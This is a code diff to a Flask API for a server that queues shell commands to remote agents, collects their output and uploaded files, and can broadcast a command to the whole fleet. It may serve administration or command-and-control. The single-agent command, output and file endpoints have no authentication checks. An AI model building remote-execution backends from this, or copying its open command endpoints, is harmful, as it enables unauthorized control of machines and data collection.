@@ -1,93 +1,138 @@
 # apps/api/routes.py
 # -*- encoding: utf-8 -*-
-import base64, io
-import threading
-from collections import deque
+import base64, hmac, mimetypes, os, threading, uuid
+from contextlib import contextmanager
+from functools import wraps
 from datetime import datetime, timedelta
+from urllib.parse import quote
 
-from flask import Blueprint, request, jsonify, send_file
+from flask import Blueprint, request, jsonify, send_file, Response
+from flask_login import current_user
 
-from apps.api.agent_state import update_agent, get_all_agents  # для heartbeat/статистики
+from apps.api.agent_state import update_agent  # для heartbeat
+from apps.api import agent_state, command_queue, dispatch, uploads, artifacts, metrics, http_cache, outputs, broadcast, ratelimit, telemetry
+from apps.api.metrics import utc_ts
 
 api = Blueprint('api', __name__)
 
 # ---------- Locks ----------
-lock = threading.Lock()           # для файлового буфера
-metrics_lock = threading.Lock()   # для метрик
+metrics_lock = telemetry.TimedLock("metrics_lock")   # для метрик
 
-# ---------- Metrics logs ----------
-heartbeats_log = deque(maxlen=20000)   # datetime.utcnow() событий heartbeat
-commands_log   = deque(maxlen=20000)   # datetime.utcnow() получения output (выполнена команда)
-files_log      = deque(maxlen=20000)   # datetime.utcnow() получения файла
+# ---------- Metrics counters ----------
+heartbeats_log = metrics.counter('heartbeats')   # события heartbeat
+commands_log   = metrics.counter('commands')     # получен output (выполнена команда)
+files_log      = metrics.counter('files')        # получен файл
 
 # ---------- File transfer storage ----------
-# {agent_id: {filename: {"content": bytes, "ts": float}}}
-files = {}
+# файлы лежат в apps.api.artifacts (диск + SQLite-индекс), здесь только HTTP
+
+def _store_file(agent_id, name, src_path, sha256=None):
+    """Переносит готовый файл в хранилище (одноимённый файл агента заменяется)."""
+    artifacts.put(agent_id, name, src_path, sha256=sha256)
+    http_cache.bump('files')
+
+    # метрика: получен файл
+    with metrics_lock:
+        files_log.add()
+
+FILES_PAGE_SIZE = 100
 
 @api.route('/api/files', methods=['GET'])
+@http_cache.cached(depends=('files',))
 def list_all_files():
-    agent_filter = (request.args.get('agent_id') or '').strip()
+    """
+    Постранично, новые сверху: ?limit= (до 1000) &cursor=<next_cursor> — следующая страница,
+    ?since=<latest> — только файлы, добавленные после прошлого опроса (reset=true —
+    новых больше limit, проще перечитать). Сводка (total/total_size/agents) — без обхода файлов;
+    если deletes изменился с прошлого ответа, что-то удалено или заменено.
+    """
+    args = request.args
+    agent_filter = (args.get('agent_id') or '').strip() or None
+    limit = max(1, min(args.get('limit', FILES_PAGE_SIZE, type=int), 1000))
+    cursor = args.get('cursor', type=int)
+    since = args.get('since', type=int)
+
+    rows = artifacts.list_files(agent_filter, before=cursor, after=since, limit=limit + 1)
+    more = len(rows) > limit
+    rows = rows[:limit]
+
     out = []
+    for meta in rows:
+        agent_id, name, ts = meta["agent_id"], meta["name"], meta["ts"]
+        out.append({
+            "id": meta["id"],
+            "agent_id": agent_id,
+            "filename": name,
+            "size": meta["size"],
+            "sha256": meta["sha256"],
+            # удобочитаемая дата
+            "received_at": datetime.utcfromtimestamp(ts).strftime("%Y-%m-%d %H:%M:%S") if ts else "",
+            "download_url": f"/api/agent/{agent_id}/files/{name}"
+        })
+
+    s = artifacts.summary(agent_filter)
+    return jsonify({
+        "files": out,
+        "next_cursor": out[-1]["id"] if more and since is None else None,
+        "reset": more and since is not None,
+        "latest": s["latest"],
+        "deletes": s["deletes"],
+        "total": s["files"],
+        "total_size": s["bytes"],
+        "agents": s["agents"],
+    })
 
-    with lock:
-        for agent_id, bucket in files.items():
-            if agent_filter and agent_id != agent_filter:
-                continue
-            for name, meta in bucket.items():
-                size = len(meta.get("content", b""))
-                ts   = meta.get("ts")
-                # удобочитаемая дата
-                ts_iso = datetime.utcfromtimestamp(ts).strftime("%Y-%m-%d %H:%M:%S") if ts else ""
-                out.append({
-                    "agent_id": agent_id,
-                    "filename": name,
-                    "size": size,
-                    "received_at": ts_iso,
-                    "download_url": f"/api/agent/{agent_id}/files/{name}"
-                })
-
-    # сортируем по дате убыв.
-    out.sort(key=lambda x: x["received_at"], reverse=True)
-    return jsonify({"files": out})
+# За nginx отдаём файл через X-Accel-Redirect (nginx/appseed-app.conf, location /_artifacts/):
+# байты идут с диска через sendfile, Python их не касается. Без nginx — send_file
+# (wsgi.file_wrapper/sendfile), в обоих случаях работают Range и условный GET.
+ARTIFACT_X_ACCEL = os.getenv('ARTIFACT_X_ACCEL', '')  # напр. "/_artifacts/"
+
+def _send_artifact(meta):
+    if ARTIFACT_X_ACCEL:
+        sha = meta["sha256"]
+        # If-None-Match проверяем сами: ETag nginx строится из mtime/размера, а не из SHA-256
+        if request.if_none_match.contains_weak(sha):
+            resp = Response(status=304)
+            resp.headers["ETag"] = f'"{sha}"'
+            return resp
+        resp = Response(mimetype=mimetypes.guess_type(meta["name"])[0] or "application/octet-stream")
+        resp.headers["X-Accel-Redirect"] = f"{ARTIFACT_X_ACCEL.rstrip('/')}/{sha[:2]}/{sha}"
+        resp.headers["Content-Disposition"] = f"attachment; filename*=UTF-8''{quote(meta['name'])}"
+        resp.headers["ETag"] = f'"{sha}"'
+        return resp
+
+    # содержимое адресуется по SHA-256, так что он же — сильный ETag
+    return send_file(
+        meta["path"],
+        as_attachment=True,
+        download_name=meta["name"],
+        etag=meta["sha256"],
+        conditional=True
+    )
 
 @api.route('/api/agent/<agent_id>/files/<path:filename>', methods=['GET'])
 def download_named(agent_id, filename):
-    with lock:
-        bucket = files.get(agent_id) or {}
-        meta = bucket.get(filename)
-        if not meta:
-            return "File not found", 404
-
-        content = meta.get("content", b"")
-        return send_file(
-            io.BytesIO(content),
-            as_attachment=True,
-            download_name=filename
-        )
-
-def _bucket_count(timestamps, start, end, step, fmt):
-    """
-    Группирует timestamps (datetime) по интервалам [start, end) с шагом step.
+    meta = artifacts.get(agent_id, filename)
+    if not meta:
+        return "File not found", 404
+    return _send_artifact(meta)
+
+def _bucket_count(counter, start, end, step, fmt):
+    """
+    Счётчики counter по интервалам [start, end) с шагом step (start выровнен по step).
     Возвращает (labels, counts).
     """
-    buckets = []
-    labels  = []
+    labels = []
     t = start
     while t < end:
-        t2 = t + step
         labels.append(t.strftime(fmt))
-        buckets.append(0)
-        t = t2
+        t += step
 
-    for ts in list(timestamps):
-        if start <= ts < end:
-            idx = int((ts - start) / step)
-            if 0 <= idx < len(buckets):
-                buckets[idx] += 1
-
-    return labels, buckets
+    counts = counter.series(utc_ts(start), step.total_seconds(), len(labels))
+    return labels, counts
 
 @api.route('/api/agent/<agent_id>/file', methods=['POST'])
+@ratelimit.limited('file')
 def receive_file(agent_id):
     data = request.json or {}
     name = (data.get("name") or "").strip()
@@ -100,33 +145,70 @@ def receive_file(agent_id):
     except Exception as e:
         return jsonify({"error": f"bad base64: {e}"}), 400
 
-    with lock:
-        files.setdefault(agent_id, {})[name] = {
-            "content": raw,
-            "ts": datetime.utcnow().timestamp()
-        }
-
-    # метрика: получен файл
-    with metrics_lock:
-        files_log.append(datetime.utcnow())
+    # старый протокол (base64 в JSON) — для агентов без чанковой загрузки
+    uploads.UPLOAD_DIR.mkdir(parents=True, exist_ok=True)
+    tmp = uploads.UPLOAD_DIR / f"{uuid.uuid4().hex}.tmp"
+    tmp.write_bytes(raw)
+    _store_file(agent_id, name, tmp)
 
     return jsonify({"status": "stored", "name": name})
 
+# ---------- Chunked upload ----------
+# 1) POST /api/agent/<id>/uploads {"name", "total", "sha256"} -> {"upload_id", "offset"}
+# 2) PUT  /api/agent/<id>/uploads/<upload_id>?offset=N  (тело — сырые байты чанка)
+#    ответ 409 {"offset"} — докачивать с этого смещения
+# 3) GET  /api/agent/<id>/uploads/<upload_id> -> {"offset"} — узнать смещение после обрыва
+@api.route('/api/agent/<agent_id>/uploads', methods=['POST'])
+@ratelimit.limited('file')
+def begin_upload(agent_id):
+    data = request.json or {}
+    try:
+        upload_id, offset = uploads.begin(agent_id, data.get("name"), data.get("total"), data.get("sha256"))
+    except uploads.UploadError as e:
+        return jsonify({"error": str(e)}), e.status
+    return jsonify({"upload_id": upload_id, "offset": offset})
+
+@api.route('/api/agent/<agent_id>/uploads/<upload_id>', methods=['GET'])
+def upload_status(agent_id, upload_id):
+    st = uploads.status(agent_id, upload_id)
+    if not st:
+        return jsonify({"error": "unknown upload"}), 404
+    return jsonify(st)
+
+@api.route('/api/agent/<agent_id>/uploads/<upload_id>', methods=['PUT'])
+@ratelimit.limited('file')
+def upload_chunk(agent_id, upload_id):
+    try:
+        offset = int(request.args.get("offset", ""))
+    except ValueError:
+        return jsonify({"error": "offset is required"}), 400
+
+    try:
+        meta, path = uploads.write_chunk(agent_id, upload_id, offset, request.stream)
+    except uploads.UploadError as e:
+        return jsonify({"error": str(e), "offset": e.offset}), e.status
+
+    if path is None:
+        return jsonify({"status": "partial", "offset": meta["offset"]})
+
+    _store_file(agent_id, meta["name"], path, sha256=meta["sha256"])
+    return jsonify({"status": "stored", "name": meta["name"], "offset": meta["total"]})
+
 @api.route('/api/agent/<agent_id>/files/latest', methods=['GET'])
 def download_latest(agent_id):
-    bucket = files.get(agent_id) or {}
-    if not bucket:
+    meta = artifacts.latest(agent_id)
+    if not meta:
         return "No files for this agent", 404
-    name, meta = max(bucket.items(), key=lambda kv: kv[1]["ts"])
-    return send_file(
-        io.BytesIO(meta["content"]),
-        as_attachment=True,
-        download_name=name
-    )
+    return _send_artifact(meta)
 
 # ---------- Commands ----------
-commands = {}  # {agent_id: "command"}
-results  = {}  # {agent_id: "output"}
+# максимум, сколько сервер держит heartbeat без команды (должно быть < ONLINE_WINDOW)
+HEARTBEAT_LONGPOLL_MAX_SEC = float(os.getenv('HEARTBEAT_LONGPOLL_MAX_SEC', 20))
+# сколько heartbeat'ов процесса может ждать одновременно: каждый держит поток gthread-воркера,
+# поэтому часть потоков оставляем дашборду, output и ожиданиям dispatch
+HEARTBEAT_LONGPOLL_MAX_CONCURRENT = int(os.getenv('HEARTBEAT_LONGPOLL_MAX_CONCURRENT',
+                                                  int(os.getenv('GUNICORN_THREADS', 64)) * 3 // 4))
+_longpoll_slots = threading.BoundedSemaphore(max(1, HEARTBEAT_LONGPOLL_MAX_CONCURRENT))
 
 @api.route('/api/agent/<agent_id>/command', methods=['POST'])
 def send_command(agent_id):
@@ -134,74 +216,320 @@ def send_command(agent_id):
     cmd = (data.get('command') or "").strip()
     if not cmd:
         return jsonify({'error': 'Command is required'}), 400
-    commands[agent_id] = cmd
-    return jsonify({'status': 'Command queued'})
+    try:
+        cmd_id = dispatch.submit(agent_id, cmd)
+    except command_queue.QueueFull as e:
+        return jsonify({'error': str(e)}), 429
+    return jsonify({'status': 'Command queued', 'command_id': cmd_id,
+                    'stream_url': f'/api/agent/{agent_id}/commands/{cmd_id}/stream'})
+
+# ---------- Рассылка команды группе агентов ----------
+# рассылка выполняет команду на всём парке: только вошедший в дашборд пользователь
+# или автоматизация с общим токеном (Authorization: Bearer <BROADCAST_TOKEN>)
+BROADCAST_TOKEN = os.getenv('BROADCAST_TOKEN')
+
+def operator_required(fn):
+    @wraps(fn)
+    def wrapper(*args, **kwargs):
+        if current_user.is_authenticated:
+            return fn(*args, **kwargs)
+        auth = request.headers.get('Authorization', '')
+        if BROADCAST_TOKEN and hmac.compare_digest(auth.encode(), f'Bearer {BROADCAST_TOKEN}'.encode()):
+            return fn(*args, **kwargs)
+        return jsonify({'error': 'authentication required'}), 401
+    return wrapper
+
+@api.route('/api/broadcast', methods=['POST'])
+@operator_required
+@ratelimit.limited('broadcast')
+def start_broadcast():
+    """
+    {"command": "...", "selector": {"all": true} | {"os": "linux"} | {"hostname": "web-*"}
+     | {"agents": [...]}, "timeout": sec}. Команда ставится всем агентам одной операцией.
+    """
+    data = request.get_json(silent=True) or {}
+    cmd = (data.get('command') or "").strip()
+    if not cmd:
+        return jsonify({'error': 'Command is required'}), 400
+    try:
+        rec = broadcast.start(data.get('selector'), cmd, timeout=data.get('timeout'))
+    except (broadcast.SelectorError, TypeError, ValueError) as e:
+        return jsonify({'error': str(e)}), 400
+    if not rec["targets"] and not rec["rejected"]:
+        return jsonify({'error': 'no agents match selector'}), 404
+    return jsonify({'status': 'Broadcast queued', 'broadcast_id': rec["id"],
+                    'targets': len(rec["targets"]) + len(rec["rejected"]),
+                    'queued': len(rec["targets"]), 'rejected': len(rec["rejected"]),
+                    'status_url': f'/api/broadcast/{rec["id"]}'})
+
+@api.route('/api/broadcast/<broadcast_id>', methods=['GET'])
+@operator_required
+def broadcast_status(broadcast_id):
+    """
+    Прогресс рассылки: counts {total, queued, delivered, completed, failed, pending}.
+    ?agents=1 — состояние по агентам (&state= &offset= &limit= до 500), &output=1 — с выводом.
+    """
+    rec = broadcast.get(broadcast_id)
+    if rec is None:
+        return jsonify({'error': 'broadcast not found'}), 404
+    prog = broadcast.progress(rec)
+    resp = {"id": rec["id"], "command": rec["command"], "selector": rec["selector"],
+            "ts": rec["ts"], "deadline": rec["deadline"], "counts": prog["counts"],
+            "finished": prog["counts"]["pending"] == 0}
+    if request.args.get('agents') in ('1', 'true'):
+        rows = prog["agents"]
+        state = request.args.get('state')
+        if state:
+            rows = [r for r in rows if r[2] == state]
+        offset = max(0, request.args.get('offset', 0, type=int))
+        limit = max(1, min(request.args.get('limit', 100, type=int), 500))
+        with_output = request.args.get('output') in ('1', 'true')
+        page = []
+        for agent_id, cmd_id, st, err in rows[offset:offset + limit]:
+            item = {"agent_id": agent_id, "command_id": cmd_id, "state": st}
+            if err:
+                item["error"] = err
+            if with_output and cmd_id:
+                item["output"] = broadcast.output(cmd_id)
+            page.append(item)
+        resp["agents"] = page
+        resp["agents_total"] = len(rows)
+    return jsonify(resp)
 
 @api.route('/api/agent/<agent_id>/output', methods=['POST'])
+@ratelimit.limited('output')
 def receive_output(agent_id):
     data = request.json or {}
-    output = data.get("output", "")
-    results[agent_id] = output
-
-    # метрика: выполнена команда (пришёл output)
-    with metrics_lock:
-        commands_log.append(datetime.utcnow())
+    output = data.get("output") or ""
+    cmd_id = data.get("command_id")
+    if not isinstance(output, str):
+        return jsonify({'error': 'output must be a string'}), 400
+    if cmd_id is not None and not isinstance(cmd_id, str):
+        return jsonify({'error': 'command_id must be a string'}), 400
+    done = bool(data.get("done"))
+    if output:
+        # история вывода агента: читается по курсору /api/agent/<id>/outputs?after=
+        outputs.append(agent_id, cmd_id, output)
+
+    # отдаём вывод тому, кто ждёт эту команду (админский роут)
+    dispatch.record_output(agent_id, cmd_id, output, done=done)
+
+    # метрика: выполнена команда (новые агенты присылают done, старые — один output на команду)
+    if done or not cmd_id:
+        with metrics_lock:
+            commands_log.add()
 
     return jsonify({"status": "output received"})
 
+@api.route('/api/agent/<agent_id>/outputs', methods=['GET'])
+def list_outputs(agent_id):
+    """
+    История вывода: ?after=<seq> (0 — с самого старого хранимого) &limit= (до 500).
+    Ответ: outputs [{seq, ts, command_id, output}], last_seq — курсор для следующего запроса,
+    first_seq — самая старая хранимая запись (first_seq > after + 1 — часть вытеснена).
+    """
+    after = request.args.get('after', 0, type=int)
+    items, last, first = outputs.read(agent_id, after=after, limit=request.args.get('limit', 100, type=int))
+    return jsonify({"outputs": items, "last_seq": items[-1]["seq"] if items else max(after, 0),
+                    "latest_seq": last, "first_seq": first})
+
 @api.route('/api/agent/<agent_id>/get_output', methods=['GET'])
 def get_output(agent_id):
-    return jsonify({"output": results.pop(agent_id, "")})
+    # старый эндпоинт: последний вывод агента; больше не удаляет его (читателей может быть несколько)
+    item = outputs.latest(agent_id)
+    return jsonify({"output": item["output"] if item else "", "seq": item["seq"] if item else 0})
+
+SSE_KEEPALIVE_SEC = 15
+
+def _sse_event(event, seq, text):
+    lines = [f"event: {event}"]
+    if seq is not None:
+        lines.append(f"id: {seq}")
+    lines += [f"data: {line}" for line in (text or "").split("\n")]
+    return "\n".join(lines) + "\n\n"
+
+@api.route('/api/agent/<agent_id>/commands/<cmd_id>/stream', methods=['GET'])
+def stream_output(agent_id, cmd_id):
+    """
+    Server-Sent Events: чанки вывода команды по мере поступления.
+    Продолжение после обрыва — по Last-Event-ID (EventSource шлёт его сам) или ?after=<seq>.
+    """
+    if not dispatch.exists(agent_id, cmd_id):
+        return jsonify({"error": "unknown command"}), 404
+    try:
+        after = int(request.headers.get("Last-Event-ID") or request.args.get("after") or 0)
+    except ValueError:
+        after = 0
+
+    def generate(after):
+        while True:
+            chunks, done = dispatch.read(cmd_id, after=after, wait=SSE_KEEPALIVE_SEC)
+            for seq, text in chunks:
+                after = seq
+                yield _sse_event("output", seq, text)
+            if done:
+                yield _sse_event("done", None, "")
+                return
+            if not chunks:
+                yield ": keepalive\n\n"
+
+    return Response(generate(after), mimetype="text/event-stream", headers={
+        "Cache-Control": "no-cache",
+        "X-Accel-Buffering": "no",  # nginx не должен буферизовать поток
+    })
+
+def longpoll_wait(raw):
+    """
+    Сколько секунд держать heartbeat в ожидании команды.
+    Агент передаёт "wait" в теле (или ?wait=), сервер ограничивает сверху.
+    """
+    try:
+        wait = float(raw or 0)
+    except (TypeError, ValueError):
+        return 0.0
+    return max(0.0, min(wait, HEARTBEAT_LONGPOLL_MAX_SEC))
+
+def _longpoll_wait(data):
+    return longpoll_wait(data.get("wait", request.args.get("wait")))
+
+@contextmanager
+def _longpoll_slot(wait):
+    """Есть свободный слот — ждём до wait; все заняты — отвечаем сразу, агент повторит через интервал."""
+    if not wait or not _longpoll_slots.acquire(blocking=False):
+        yield 0.0
+        return
+    try:
+        yield wait
+    finally:
+        _longpoll_slots.release()
 
 # ---------- Heartbeat (для дашборда) ----------
-@api.route("/api/heartbeat", methods=["POST"])
-def heartbeat():
-    data = request.json or {}
-    agent_id = data.get("id")
+# checkin*/take_commands — общая часть для этого роута и ASGI-входа (apps.api.asgi):
+# там ожидание команды идёт на event loop, а не в потоке.
+class HeartbeatError(Exception):
+    def __init__(self, message, status=400):
+        super().__init__(message)
+        self.status = status
+
+def checkin(data, remote_addr):
+    """Реестр, метрика, подтверждения. Возвращает (agent_id, legacy) — legacy: агент без ack."""
+    agent_id = data.get("id") if isinstance(data, dict) else None
     if not agent_id:
-        return jsonify({"error": "id required"}), 400
+        raise HeartbeatError("id required")
 
     # обновляем инфу об агенте (IP берём из запроса)
-    update_agent(agent_id, data, request.remote_addr)
+    update_agent(agent_id, data, remote_addr)
 
     # метрика: heartbeat
     with metrics_lock:
-        heartbeats_log.append(datetime.utcnow())
+        heartbeats_log.add()
 
-    # берём команду, если есть
-    cmd = commands.pop(agent_id, None)
+    # агент подтверждает команды из прошлого ответа; старые агенты поле "ack" не шлют
+    acks = data.get("ack")
+    if acks:
+        command_queue.ack(agent_id, acks)
+        dispatch.mark_delivered(acks)
+    return agent_id, acks is None
 
-    return jsonify({
-        "status": "ok",
-        "command": cmd
-    })
+def take_commands(agent_id, legacy, wait=0):
+    if legacy:
+        # старый протокол: одна команда в поле "command", без подтверждения
+        return command_queue.take(agent_id, wait=wait, max_items=1, track=False)
+    return command_queue.take(agent_id, wait=wait)
+
+def heartbeat_reply(batch):
+    return {"status": "ok", "commands": batch, "command": batch[0]["command"] if batch else None}
+
+@api.route("/api/heartbeat", methods=["POST"])
+@ratelimit.limited('heartbeat')
+def heartbeat():
+    data = request.json or {}
+    try:
+        agent_id, legacy = checkin(data, request.remote_addr)
+    except HeartbeatError as e:
+        return jsonify({"error": str(e)}), e.status
+
+    # берём пачку команд; в long-poll режиме ждём их до дедлайна
+    with _longpoll_slot(_longpoll_wait(data)) as wait:
+        batch = take_commands(agent_id, legacy, wait=wait)
+    return jsonify(heartbeat_reply(batch))
+
+# ---------- Пачка heartbeat'ов от relay/шлюза ----------
+MAX_BATCH_AGENTS = int(os.getenv('MAX_BATCH_AGENTS', 1000))
+
+def checkin_batch(data, remote_addr):
+    """Реестр, метрика и подтверждения за один проход. Возвращает ID агентов пачки."""
+    items = data.get("agents") if isinstance(data, dict) else None
+    if not isinstance(items, list):
+        raise HeartbeatError("agents list required")
+    if len(items) > MAX_BATCH_AGENTS:
+        raise HeartbeatError(f"at most {MAX_BATCH_AGENTS} agents per batch", 413)
+
+    items = [a for a in items if isinstance(a, dict) and a.get("id")]
+    # IP агента знает relay; без него — адрес самого relay
+    agent_state.update_agents([(a["id"], a, a.get("ip") or remote_addr) for a in items])
+    with metrics_lock:
+        heartbeats_log.add(k=len(items))
+
+    acks = {a["id"]: a["ack"] for a in items if a.get("ack")}
+    if acks:
+        command_queue.ack_many(acks)
+        dispatch.mark_delivered(cid for ids in acks.values() for cid in ids)
+    return [a["id"] for a in items]
+
+@api.route("/api/heartbeat/batch", methods=["POST"])
+@ratelimit.limited('heartbeat')
+def heartbeat_batch():
+    """
+    Heartbeat'ы сотен агентов за relay одним запросом:
+    {"relay": id, "wait": sec, "agents": [{"id", "hostname", "os", "mac", "ip", "ack": [...]}]}.
+    Реестр обновляется за один проход, ответ — {"commands": {agent_id: [{"id", "command"}]}}
+    только для агентов, у которых что-то есть. С "wait" держим запрос, пока команда
+    не появится хотя бы у одного агента пачки.
+    """
+    data = request.get_json(silent=True)  # сжатое тело распаковывает apps.api.compression
+    try:
+        ids = checkin_batch(data, request.remote_addr)
+    except HeartbeatError as e:
+        return jsonify({"error": str(e)}), e.status
+
+    with _longpoll_slot(_longpoll_wait(data)) as wait:
+        commands = command_queue.take_many(ids, wait=wait)
+    return jsonify({"status": "ok", "commands": commands})
+
+# ---------- Поиск и постраничный список агентов ----------
+@api.route('/api/agents', methods=['GET'])
+def search_agents():
+    """
+    ?hostname= &ip= &mac= &os= (семейство: windows/linux/...) &online=1|0
+    &sort=last_seen|hostname &desc=1|0 &offset= &limit= (до 500)
+    """
+    args = request.args
+    online = args.get('online')
+    desc = args.get('desc')
+    agents, total = agent_state.list_agents(
+        offset=args.get('offset', 0, type=int),
+        limit=min(args.get('limit', 100, type=int), 500),
+        sort=args.get('sort', 'last_seen'),
+        desc=None if desc is None else desc in ('1', 'true'),
+        online=None if online is None else online in ('1', 'true'),
+        **{f: args.get(f) for f in agent_state.INDEXED}
+    )
+    return jsonify({"total": total, "agents": [a.to_dict() for a in agents]})
 
 # ---------- Счётчики активных/неактивных агентов ----------
+# смена online/offline или новый агент — счётчики в /api/agent_stats устарели
+agent_state.on_transition(lambda agent_id, online: http_cache.bump('agents'))
+
 @api.route('/api/agent_stats', methods=['GET'])
+@http_cache.cached(depends=('agents',))
 def agent_stats():
-    now = datetime.utcnow()
-    agents = get_all_agents()
-    active = 0
-    inactive = 0
-
-    for a in agents:
-        # last_seen сохранён строкой "YYYY-mm-dd HH:MM:SS" -> парсим
-        try:
-            ls = datetime.strptime(a['last_seen'], "%Y-%m-%d %H:%M:%S")
-        except Exception:
-            # на всякий случай: считаем невалидное значение как неактивное
-            inactive += 1
-            continue
-
-        if (now - ls).total_seconds() < 30:
-            active += 1
-        else:
-            inactive += 1
-
-    return jsonify({"active": active, "inactive": inactive})
+    # online-статус ведёт agent_state (куча по last_seen_ts + фоновый sweep)
+    return jsonify(agent_state.counts())
 
 # ---------- Метрики для графиков ----------
 @api.route('/api/metrics/heartbeats_7d', methods=['GET'])
+@http_cache.cached()
 def metrics_heartbeats_7d():
     now = datetime.utcnow()
     start = (now - timedelta(days=6)).replace(hour=0, minute=0, second=0, microsecond=0)
@@ -211,15 +539,17 @@ def metrics_heartbeats_7d():
     return jsonify({"labels": labels, "data": counts})
 
 @api.route('/api/metrics/commands_30m', methods=['GET'])
+@http_cache.cached()
 def metrics_commands_30m():
     now = datetime.utcnow()
-    start = now - timedelta(minutes=29)
-    end   = now + timedelta(seconds=1)
+    start = now.replace(second=0, microsecond=0) - timedelta(minutes=29)
+    end   = start + timedelta(minutes=30)
     with metrics_lock:
         labels, counts = _bucket_count(commands_log, start, end, timedelta(minutes=1), fmt='%H:%M')
     return jsonify({"labels": labels, "data": counts})
 
 @api.route('/api/metrics/files_24h', methods=['GET'])
+@http_cache.cached()
 def metrics_files_24h():
     now = datetime.utcnow()
     # выравниваем старт по началу часа 24 часа назад